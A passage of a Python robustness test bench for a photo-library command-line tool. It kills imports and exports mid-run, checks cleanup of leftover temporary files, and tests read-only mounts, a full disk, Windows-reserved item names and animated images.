    rerun = b.cli("import", lib, *photos, "--copy", "-q", timeout=600)
    facts = sqlite_facts(lib)
    left = parts_under(lib / "thumbnails", lib / "photos")
    b.row(11, f"SIGKILL import --copy at {mid}/{n} items, re-run", f"re-run exit 0; {n} photos once; no *.part; integrity ok",
          killed and rerun.rc == 0 and facts["photos"] == n == facts["distinct"] and not left
          and facts["integrity"] == "ok" and facts["bare"] == 0,
          f"killed={killed} parts after kill={len(left_mid)} rerun rc={rerun.rc} photos={facts['photos']} "
          f"left={[p.name for p in left][:2]} {facts['integrity']}")
    ls = b.cli("ls", lib, "--limit", "1")
    b.row(11, "library opens after the kill and re-run", "ls exit 0", ls.rc == 0, f"rc={ls.rc} {ls.first_err()}")
    # killed twice (early, then past the middle), without copies, then the re-run
    lib2, _ = b.library("c11-lib2")
    kills = []
    for threshold in (2, n // 2):
        proc = b.popen("import", lib2, *photos, "-q")
        kills.append(kill_when(proc, lambda t=threshold: item_count(lib2) >= t))
    mid = item_count(lib2)
    rerun = b.cli("import", lib2, *photos, "-q", timeout=600)
    facts = sqlite_facts(lib2)
    added = int(m.group(1)) if (m := IMPORTED.search(rerun.out)) else -1
    left = parts_under(lib2 / "thumbnails")
    b.row(11, f"SIGKILL import twice (at 2, then {mid}/{n} items), re-run",
          f"re-run exit 0, adds the remaining {n - mid}; {n} photos once; no *.part",
          all(kills) and rerun.rc == 0 and added == n - mid and facts["photos"] == n == facts["distinct"]
          and not left and facts["integrity"] == "ok",
          f"killed={kills} rerun rc={rerun.rc} added={added} photos={facts['photos']} left={len(left)} {facts['integrity']}")
    # planted leftovers: dead tag removed, live tag and young untagged kept, old untagged removed
    tdir = lib / "thumbnails" / "zz"
    pdir = lib / "photos" / "zz"
    mdir = lib / "models"
    for d in (tdir, pdir):
        d.mkdir(parents=True, exist_ok=True)
    planted = {
        tdir / f"tmp~wy-{host}-{dead}~abc.part": False,
        pdir / f"tmp~wy-{host}-{dead}~def.part": False,
        tdir / f"tmp~wy-{host}-{live}~live.part": True,
        tdir / "tmpyoung-untagged.part": True,
        tdir / "tmpold-untagged.part": False,
        tdir / "tmp~wy-otherhost.example-12~x.part": True,
        mdir / f"model~wy-{host}-{dead}~x.partial": False,
        mdir / f"model~wy-{host}-{live}~y.partial": True,
    }
    for path, _ in planted.items():
        path.write_bytes(b"\0" * 1000)
    old = time.time() - 3 * 24 * 3600
    os.utime(tdir / "tmpold-untagged.part", (old, old))
    ls = b.cli("ls", lib, "--limit", "1")   # an opening cleans models/
    extra = b.photo(folder, "extra.jpg", 1101)
    imp = b.cli("import", lib, extra, "-q")  # an import cleans thumbnails/ and photos/ too
    for path, keep in planted.items():
        exists = path.exists()
        what = path.name.replace(host, "HOST")
        b.row(11, f"planted {path.parent.name}/{what[:38]}", "kept" if keep else "removed",
              exists == keep and ls.rc == 0 and imp.rc == 0, f"{'kept' if exists else 'removed'} (ls rc={ls.rc}, import rc={imp.rc})")
    # a killed ZIP export: the hidden .NAME.*.part goes at the next export
    out = folder / "pkg.zip"
    base = b.root / "c11-lib"
    proc = b.popen("export", base, "--all", "--format", "zip", "--resize", "40", "-o", out, "-q")
    killed = kill_when(proc, lambda: any(p.name.startswith(".pkg.zip.") for p in folder.iterdir()))
    left_mid = [p.name for p in folder.iterdir() if p.name.startswith(".pkg.zip.")]
    rerun = b.cli("export", base, "--all", "--format", "zip", "-o", out, "-q", timeout=600)
    left = [p.name for p in folder.iterdir() if p.name.startswith(".pkg.zip.")]
    try:
        with zipfile.ZipFile(out) as z:
            bad = z.testzip()
            valid = bad is None
    except (OSError, zipfile.BadZipFile):
        valid = False
    b.row(11, "SIGKILL export --format zip mid-way, re-run", "re-run exit 0; no .pkg.zip.*.part; valid ZIP",
          killed and bool(left_mid) and rerun.rc == 0 and not left and valid,
          f"killed={killed} after kill={len(left_mid)} rerun rc={rerun.rc} left={left[:2]} valid={valid}")
    # a killed IIIF export: the hidden temporary folder goes at the next export
    site = folder / "site"
    proc = b.popen("export", base, "--all", "--format", "iiif", "-o", site, "-q")
    killed = kill_when(proc, lambda: any(p.name.startswith(".site.") for p in folder.iterdir()))
    left_mid = [p.name for p in folder.iterdir() if p.name.startswith(".site.")]
    rerun = b.cli("export", base, "--all", "--format", "iiif", "-o", site, "-q", timeout=600)
    left = [p.name for p in folder.iterdir() if p.name.startswith(".site.")]
    b.row(11, "SIGKILL export --format iiif mid-way, re-run", "re-run exit 0; no .site.*.part folder",
          killed and bool(left_mid) and rerun.rc == 0 and not left and site.is_dir(),
          f"killed={killed} after kill={len(left_mid)} rerun rc={rerun.rc} left={left[:2]}")
    # planted export leftovers: dead removed, live kept
    dead_part = folder / f".pkg.zip.~wy-{host}-{dead}~zz.part"
    live_part = folder / f".pkg.zip.~wy-{host}-{live}~zz.part"
    for p in (dead_part, live_part):
        p.write_bytes(b"\0" * 100)
    small = b.root / "c1-lib" if (b.root / "c1-lib").exists() else base
    again = b.cli("export", small, "--all", "--format", "zip", "-o", out, "-q")
    b.row(11, "planted .pkg.zip.~wy-HOST-DEADPID~.part / live pid", "dead removed, live kept by the next export",
          again.rc == 0 and not dead_part.exists() and live_part.exists(),
          f"rc={again.rc} dead {'kept' if dead_part.exists() else 'removed'}, live {'kept' if live_part.exists() else 'removed'}")
    live_part.unlink(missing_ok=True)


# ------------------------------------------------------------------------------------------
# 12. read-only library
# ------------------------------------------------------------------------------------------
def snapshot(folder: Path) -> dict:
    return {str(p.relative_to(folder)): (p.stat().st_size, p.stat().st_mtime_ns)
            for p in folder.rglob("*") if p.is_file()}


def leave_wal(b: Bench, lib: Path) -> bool:
    """Leave the library with a -wal and -shm as a killed writer does."""
    code = ("import sqlite3, sys, os\nc = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
            "c.execute('PRAGMA journal_mode=WAL')\nc.execute(\"INSERT OR REPLACE INTO meta (key, value) VALUES ('x', 'y')\")\n"
            "os._exit(0)")
    run = b.py(code, lib / "library.sqlite")
    return run.rc == 0 and (lib / "library.sqlite-wal").exists()


def class12(b: Bench) -> None:
    expected_ro = "exit 1 with 'read-only'"
    if os.geteuid() != 0:
        b.skip(12, "read-only bind mount", "browse/search/export work", "no bind mount: not root")
        return
    base = b.model_library()
    src = b.copy_library(base, "c12-src")
    extra = b.folder("c12")
    query = b.photo(extra, "q.jpg", 1201)
    mnt = b.folder("c12-mnt")
    if not (b.mount("--bind", src, mnt) and b.mount("-o", "remount,bind,ro", src, mnt)):
        b.umount_all()
        b.skip(12, "read-only bind mount", "browse/search/export work", "no bind mount")
        return
    try:
        probe = mnt / "probe"
        try:
            probe.write_text("x")
            probe.unlink()
            b.row(12, "the bind mount is read-only", "writing fails", False, "write succeeded")
            return
        except OSError:
            pass
        before = snapshot(src)
        reads = [
            ("ls", ["ls", mnt]), ("ls --json", ["ls", mnt, "--json"]), ("show M-0", ["show", mnt, "M-0"]),
            ("show --json M-3", ["show", mnt, "--json", "M-3"]), ("labels list", ["labels", "list", mnt]),
            ("models list", ["models", "list", mnt]), ("collections list", ["collections", "list", mnt]),
            ("export csv", ["export", mnt, "--all", "--format", "csv", "-o", extra / "ro.csv"]),
            ("export json", ["export", mnt, "--all", "--format", "json", "-o", extra / "ro.json"]),
            ("export zip", ["export", mnt, "--all", "--format", "zip", "-o", extra / "ro.zip"]),
            ("export iiif", ["export", mnt, "--all", "--format", "iiif", "-o", extra / "ro-site"]),
            ("search --text (model)", ["search", mnt, "--text", "red dragon"]),
            ("search --image (model)", ["search", mnt, "--image", query]),
            ("search --labels", ["search", mnt, "--labels", "dragon"]),
            ("search --like", ["search", mnt, "--like", "M-0"]),
            ("labels export -", ["labels", "export", mnt, "-", "--format", "paths"]),
        ]
        for name, argv in reads:
            run = b.cli(*argv)
            b.row(12, f"read-only: {name}", "exit 0", run.rc == 0 and no_traceback(run),
                  f"rc={run.rc} {run.first_err() if run.rc else (run.out.strip().splitlines() or [''])[-1].strip()}")
        writes = [
            ("tag", ["tag", mnt, "M-0", "-l", "phoenix"]),
            ("untag", ["untag", mnt, "M-0", "-l", "dragon"]),
            ("import", ["import", mnt, query]),
            ("train", ["train", mnt, "--epochs", "1"]),
            ("encode", ["encode", mnt]),
            ("labels add", ["labels", "add", mnt, "Brand new", "--facet", "category"]),
            ("collections create", ["collections", "create", mnt, "new one"]),
            ("models activate", ["models", "activate", mnt, "fake-1"]),
        ]
        for name, argv in writes:
            run = b.cli(*argv, timeout=120)
            ok = run.rc == 1 and "read-only" in run.err and no_traceback(run)
            b.row(12, f"read-only: {name}", expected_ro, ok, f"rc={run.rc} {run.first_err()}")
        after = snapshot(src)
        b.row(12, "read-only: nothing written inside the library", "same files, sizes, times",
              before == after, "same" if before == after else f"{len(set(before) ^ set(after))} changed")
    finally:
        b.umount(mnt)
    # a library whose last writer was killed (a -wal and -shm beside it), then made read-only
    src2 = b.copy_library(base, "c12-src-wal")
    mnt2 = b.folder("c12-mnt-wal")
    if not leave_wal(b, src2):
        b.skip(12, "read-only with a leftover -wal", "ls works", "could not leave a WAL behind")
        return
    if not (b.mount("--bind", src2, mnt2) and b.mount("-o", "remount,bind,ro", src2, mnt2)):
        b.umount_all()
        return
    try:
        for name, argv in [("ls", ["ls", mnt2]), ("search --labels", ["search", mnt2, "--labels", "dragon"]),
                           ("export csv", ["export", mnt2, "--all", "-o", extra / "wal.csv"])]:
            run = b.cli(*argv)
            b.row(12, f"read-only with a killed writer's -wal/-shm: {name}", "exit 0",
                  run.rc == 0 and no_traceback(run), f"rc={run.rc} {run.first_err() if run.rc else 'ok'}")
        run = b.cli("tag", mnt2, "M-0", "-l", "phoenix")
        b.row(12, "read-only with -wal/-shm: tag", expected_ro, run.rc == 1 and "read-only" in run.err,
              f"rc={run.rc} {run.first_err()}")
    finally:
        b.umount(mnt2)


# ------------------------------------------------------------------------------------------
# 13. full disk
# ------------------------------------------------------------------------------------------
def class13(b: Bench) -> None:
    if os.geteuid() != 0:
        b.skip(13, "export to a full tmpfs", "exit 1, 'No space left'", "no tmpfs: not root")
        return
    folder = b.folder("c13")
    photos = [b.photo(folder, f"n{i}.jpg", 1300 + i, size=(320, 240), quality=95) for i in range(8)]
    big = "".join(random.Random(13).choice("abcdefghij ") for _ in range(400_000))
    sheet = write_csv(folder / "sheet.csv", ["file", "accession", "title", "description", "labels"],
                      [[p.name, f"N-{i}", f"noise {i}", big if i == 0 else "noise", "dragon" if i % 2 else "phoenix"]
                       for i, p in enumerate(photos)])
    lib, imp = b.library("c13-lib", photos, sheet, extra=["--copy"])
    if not b.row(13, "library of incompressible photos (copied in)", "exit 0", imp.rc == 0,
                 f"rc={imp.rc} {imp.first_err()}"):
        return
    mnt = b.folder("c13-tmpfs")
    if not b.mount("-t", "tmpfs", "-o", "size=256k", "tmpfs", mnt):
        b.skip(13, "export to a full tmpfs", "exit 1, 'No space left'", "no tmpfs mount")
        return
    try:
        for fmt, target in [("iiif", mnt / "site"), ("research", mnt / "research"), ("zip", mnt / "pkg.zip"),
                            ("csv", mnt / "x.csv"), ("json", mnt / "x.json")]:
            argv = ["export", lib, "--all", "--format", fmt, "-o", target, "-q"]
            run = b.cli(*argv, timeout=120)
            msg = run.first_err()
            left = listing(mnt)
            ok = (run.rc == 1 and "No space left" in run.err and not msg.lower().startswith(("wenyang: reading", "reading"))
                  and not left and no_traceback(run))
            b.row(13, f"export {fmt} to a 256 kB tmpfs", "exit 1; 'No space left'; not 'Reading…'; tmpfs empty",
                  ok, f"rc={run.rc} left={left[:2]} {msg}")
            for p in mnt.iterdir():
                shutil.rmtree(p, ignore_errors=True) if p.is_dir() else p.unlink()
    finally:
        b.umount(mnt)
    # an import --copy into a library on a small tmpfs
    mnt = b.folder("c13-tmpfs-lib")
    if not b.mount("-t", "tmpfs", "-o", "size=1m", "tmpfs", mnt):
        return
    try:
        small_lib = mnt / "lib"
        init = b.cli("init", small_lib)
        more = [b.photo(folder, f"m{i}.jpg", 1350 + i, size=(320, 240), quality=95) for i in range(14)]
        run = b.cli("import", small_lib, *more, "--copy", "-q", timeout=120)
        facts = sqlite_facts(small_lib) if (small_lib / "library.sqlite").exists() else {}
        said = "full" in run.both.lower() or "no space" in run.both.lower()
        b.row(13, "import --copy into a library on a 1 MB tmpfs", "exit 1/3, says the disk is full; integrity ok; no item without photo",
              init.rc == 0 and run.rc in (1, 3) and said and facts.get("integrity") == "ok" and facts.get("bare") == 0
              and no_traceback(run) and not parts_under(small_lib / "photos", small_lib / "thumbnails"),
              f"rc={run.rc} items={facts.get('items')} {facts.get('integrity')} "
              f"{[l for l in run.both.splitlines() if 'full' in l.lower() or 'space' in l.lower()][:1]}")
        ls = b.cli("ls", small_lib, "--limit", "1")
        b.row(13, "the full library still opens", "ls exit 0", ls.rc == 0, f"rc={ls.rc} {ls.first_err()}")
    finally:
        b.umount(mnt)


# ------------------------------------------------------------------------------------------
# 14. Windows-reserved names; animated images
# ------------------------------------------------------------------------------------------
def reserved_stem(name: str) -> bool:
    stem = name.split(".")[0].rstrip(" ").upper()
    return stem in WINDOWS_RESERVED


def class14(b: Bench) -> None:
    folder = b.folder("c14")
    accessions = ["CON", "nul", "COM1", "aux.json", "PRN.txt", "lpt9", "Con.tar.gz", "COM\u00b9", "LPT\u00b3.x", "CONIN$"]
    photos = [b.photo(folder, f"w{i}.jpg", 1400 + i) for i in range(len(accessions))]
    sheet = write_csv(folder / "sheet.csv", ["file", "accession", "title"],
                      [[p.name, a, f"item {a}"] for p, a in zip(photos, accessions)])
    lib, imp = b.library("c14-lib", photos, sheet)
    if not b.row(14, "import items named CON, nul, COM1, aux.json, …", "exit 0", imp.rc == 0,
                 f"rc={imp.rc} {imp.first_err()}"):
        return
    pkg = folder / "pkg.zip"
    run = b.cli("export", lib, "--all", "--format", "zip", "-o", pkg)
    if b.row(14, "export zip", "exit 0", run.rc == 0, f"rc={run.rc} {run.first_err()}"):
        with zipfile.ZipFile(pkg) as z:
            names = z.namelist()
        bad = [m for m in names if any(reserved_stem(part) for part in Path(m).parts)]
        b.row(14, f"ZIP members ({len(names)})", "no member or folder whose stem is reserved", not bad,
              ", ".join(bad[:4]) or "none")
        lib2, _ = b.library("c14-lib2")
        back = b.cli("import", lib2, pkg, "-q")
        got = sorted(it["accession"] for it in b.items(lib2))
        b.row(14, "the ZIP imports back with the same accession numbers", "CON, nul, … unchanged",
              back.rc == 0 and got == sorted(unicodedata.normalize("NFC", a) for a in accessions),
              f"rc={back.rc} {got[:5]}")
    site = folder / "site"
    run = b.cli("export", lib, "--all", "--format", "iiif", "-o", site)
    if b.row(14, "export iiif", "exit 0", run.rc == 0, f"rc={run.rc} {run.first_err()}"):
        bad = [str(p.relative_to(site)) for p in site.rglob("*") if reserved_stem(p.name)]
        b.row(14, f"IIIF files ({sum(1 for _ in site.rglob('*'))})", "no file or folder whose stem is reserved",
              not bad, ", ".join(bad[:4]) or "none")
    res = folder / "research"
    run = b.cli("export", lib, "--all", "--format", "research", "-o", res)
    if run.rc == 0:
        bad = [str(p.relative_to(res)) for p in res.rglob("*") if reserved_stem(p.name)]
        b.row(14, "research export files", "no reserved stem", not bad, ", ".join(bad[:4]) or "none")
    # animated and multi-page images
    anim = folder / "anim"
    anim.mkdir()
    frames = [Image.new("RGB", (40, 30), (i * 50, 90, 160 - i * 30)) for i in range(5)]
    frames[0].save(anim / "apng.png", save_all=True, append_images=frames[1:3], duration=100, loop=0)
    frames[0].save(anim / "awebp.webp", save_all=True, append_images=frames[1:4], duration=100, loop=0)
    frames[0].save(anim / "pages.tif", save_all=True, append_images=frames[1:2])
    frames[4].save(anim / "static.png")
    expectations = {"apng": ("animated PNG", 3), "awebp": ("animated WEBP", 4), "pages": ("multi-page TIFF", 2),
                    "static": (None, 1)}
    libA, impA = b.library("c14-anim", sorted(anim.iterdir()))
    for acc, (what, count) in expectations.items():
        show = b.cli("show", libA, acc)
        notes = [l for l in show.out.splitlines() if l.startswith("Photo:")]
        text = " ".join(notes)
        if what is None:
            ok = show.rc == 0 and "first of" not in text
            expected = "no note"
        else:
            ok = show.rc == 0 and what.lower() in text.lower() and f"first of {count}" in text
            expected = f"note '{what}: first of {count} …'"
        b.row(14, f"import {acc} ({count} frame(s))", expected, ok, f"rc={show.rc} {text[-70:]}")


# ------------------------------------------------------------------------------------------
CLASSES = {1: class1, 2: class2, 3: class3, 4: class4, 5: class5, 6: class6, 7: class7, 8: class8,
           9: class9, 10: class10, 11: class11, 12: class12, 13: class13, 14: class14}


def print_table(rows: list[Row]) -> None:
    widths = (14, 58, 50, 8)
    head = f"{'class':{widths[0]}} {'case':{widths[1]}} {'expected':{widths[2]}} {'verdict':{widths[3]}} observed"
    print(head)
    print("-" * len(head))
    for r in rows:
        cls = f"{r.cls:>2} {CLASS_NAMES[r.cls]}"
        case = visible(r.case, widths[1])
        expected = visible(r.expected, widths[2])
        print(f"{cls:{widths[0]}} {case:{widths[1]}} {expected:{widths[2]}} {r.verdict:{widths[3]}} {r.observed}")


def summary(rows: list[Row], selected) -> tuple[int, int, int]:
    print()
    print(f"{'class':16} {'tried':>5} {'ok':>5} {'FAIL':>5} {'skipped':>7}")
    total = [0, 0, 0]
    for cls in selected:
        mine = [r for r in rows if r.cls == cls]
        tried = [r for r in mine if not r.verdict.startswith("skipped")]
        ok = sum(r.verdict == "ok" for r in tried)
        skipped = len(mine) - len(tried)
        total[0] += len(tried)
        total[1] += ok
        total[2] += skipped
        print(f"{cls:>2} {CLASS_NAMES[cls]:13} {len(tried):5} {ok:5} {len(tried) - ok:5} {skipped:7}"
              f"   tried {len(tried)}, ok {ok}")
    print(f"{'total':16} {total[0]:5} {total[1]:5} {total[0] - total[1]:5} {total[2]:7}   tried {total[0]}, ok {total[1]}")
    return tuple(total)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="fewer photos and variants (for a busy machine)")
    parser.add_argument("--photos", type=int, help="photos for the concurrency and kill cases (default 300, quick 150)")
    parser.add_argument("--repeat", type=int, default=1, help="concurrency rounds (each: same order and opposite orders)")
    parser.add_argument("--only", help="comma-separated class numbers, e.g. 1,5,10")
    parser.add_argument("--keep", action="store_true", help="keep the temporary corpus folder")
    options = parser.parse_args()
    if options.photos is None:
        options.photos = 150 if options.quick else 300
    selected = sorted(int(c) for c in options.only.split(",")) if options.only else list(CLASSES)
    started = time.perf_counter()
    root = Path(tempfile.mkdtemp(prefix="wenyang-hostile-"))
    bench = Bench(root, options)
    try:
        for cls in selected:
            t0 = time.perf_counter()
            try:
                CLASSES[cls](bench)
            except Exception as exc:  # a bench bug or an unexpected state: a FAIL row, not a crash
                bench.row(cls, "bench error", "the class runs to the end", False, f"{type(exc).__name__}: {exc}")
            finally:
                bench.umount_all()
            print(f"[class {cls} {CLASS_NAMES[cls]}: {time.perf_counter() - t0:.1f} s]", file=sys.stderr, flush=True)
    finally:
        bench.umount_all()
        if options.keep:
            print(f"corpus kept in {root}", file=sys.stderr)
        else:
            shutil.rmtree(root, ignore_errors=True)
    print_table(bench.rows)
    tried, ok, skipped = summary(bench.rows, selected)
    print(f"\n{time.perf_counter() - started:.0f} s; {'all ok' if tried == ok else f'{tried - ok} FAILED'}"
          + (f"; {skipped} skipped" if skipped else ""))
    return 0 if tried == ok else 1


if __name__ == "__main__":
    sys.exit(main())
